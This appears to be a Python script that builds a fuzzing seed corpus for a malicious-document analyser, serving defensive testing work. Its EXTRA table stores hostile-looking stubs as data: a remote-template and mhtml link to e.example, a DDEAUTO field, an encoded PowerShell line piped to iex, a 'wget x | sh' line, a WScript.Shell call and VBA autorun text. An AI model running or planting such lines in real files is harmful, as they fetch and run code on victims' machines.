#!/usr/bin/env python3
"""Writes the seeds of this folder's targets into corpus/, from tests/support/samples.py.

The first byte of a file chooses the name that it goes by (fuzz_analyser.c).
"""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "..", "support"))
import samples  # noqa: E402

NAMES = ["file", "mail.eml", "word/document.xml", "word/_rels/document.xml.rels", "customUI/customUI.xml", "xl/macrosheets/sheet1.xml",
         "Basic/Standard/Module1.xml", "content.xml", "a.js", "a.vbs", "a.ps1", "a.bat", "a.hta", "a.html", "a.sh", "invoice.pdf.exe", "a.tar.gz"]
LARGEST = 20_000

EXTRA = {
    "ooxml": {"rels": ("word/_rels/document.xml.rels", b"<Relationships>" + samples.relation("attachedTemplate", "http://e.example/t.dotm") +
                       samples.relation("oleObject", "mhtml:http://e.example/!x") + b"</Relationships>"),
              "fields": ("word/document.xml", b"<w:instrText>DD</w:instrText><w:instrText x=\"1\">EAUTO cmd</w:instrText><ddeLink "),
              "ui": ("customUI/customUI.xml", b"<customUI onLoad=\"x\"/>"), "basic": ("Basic/Standard/Module1.xml", b"<script:module x"),
              "load": ("content.xml", b"\"dom:load\" vnd.sun.star.script")},
    "script": {"ps1": ("a.ps1", b"powershell -enc SQBFAFgA | iex"), "wide": ("a.vbs", "CreateObject(\"WScript.Shell\")".encode("utf-16")),
               "vba": ("file", samples.AUTORUN.encode()), "sh": ("a.sh", b"#!/bin/sh\nwget x | sh")},
    "elf": {"ls": ("file", b"\x7fELF\2\1\1" + b"\0" * 9 + b"\2\0>\0\1\0\0\0" + b"\0" * 8 + b"\x40" + b"\0" * 7 + b"\0" * 8 + b"\0\0\0\0" +
                   b"\x40\0\x38\0\1\0\x40\0\0\0\0\0" + b"\1\0\0\0\5\0\0\0" + b"\0" * 24 + b"\x78" + b"\0" * 15)},
    "mail": {"parts": ("mail.eml", b"From: a@b\nSubject: =?utf-8?B?aGVsbG8=?=\nContent-Type: multipart/mixed; boundary=\"x\"\n\n--x\n"
                       b"Content-Disposition: attachment; filename*0*=utf-8''a%20; filename*1=\"b.txt\"\nContent-Transfer-Encoding: base64\n\n"
                       b"aGVsbG8=\n--x\nContent-Type: multipart/digest; boundary=y\n\n--y\n\nFrom: c\n\nhello=20\n--y--\n--x--\n"),
             "uu": ("mail.eml", b"From: a\n\ntext\nbegin 644 a.txt\n#0V%T\n`\nend\n")},
    "vba": {"autorun": (None, samples.vba_compress(samples.AUTORUN.encode() * 3))},
}
KINDS = {"ole": "ole-", "ooxml": "ooxml-", "onenote": "onenote-", "rtf": "rtf-", "pdf": "pdf-", "pe": "pe-", "elf": "elf-", "lnk": "lnk-", "shortcut": "shortcut-", "mail": "mail-",
         "tnef": "tnef-", "smime": "smime-", "script": "script-", "image": "image-", "archive": "archive-"}


def write(kind, name, data, goes_by):
    os.makedirs(os.path.join(HERE, "corpus", kind), exist_ok=True)
    with open(os.path.join(HERE, "corpus", kind, name), "wb") as f:
        f.write((b"" if goes_by is None else bytes([NAMES.index(goes_by)])) + data)


def main():
    for name, data in samples.all_samples().items():
        kind = name.split("-")[0]
        if kind == "archive" and name.endswith(".iso"):
            data = data.rstrip(b"\0")
        end = "." + name.rsplit(".", 1)[1]
        goes_by = next((n for n in NAMES if n.startswith("a.") and n.endswith(end)), "mail.eml" if kind == "mail" else "file")
        if len(data) <= LARGEST:
            write(kind, name, data, goes_by)
    for kind, seeds in EXTRA.items():
        for name, (goes_by, data) in seeds.items():
            write(kind, name, data, goes_by)
    assert all(os.listdir(os.path.join(HERE, "corpus", k)) for k in KINDS)


main()
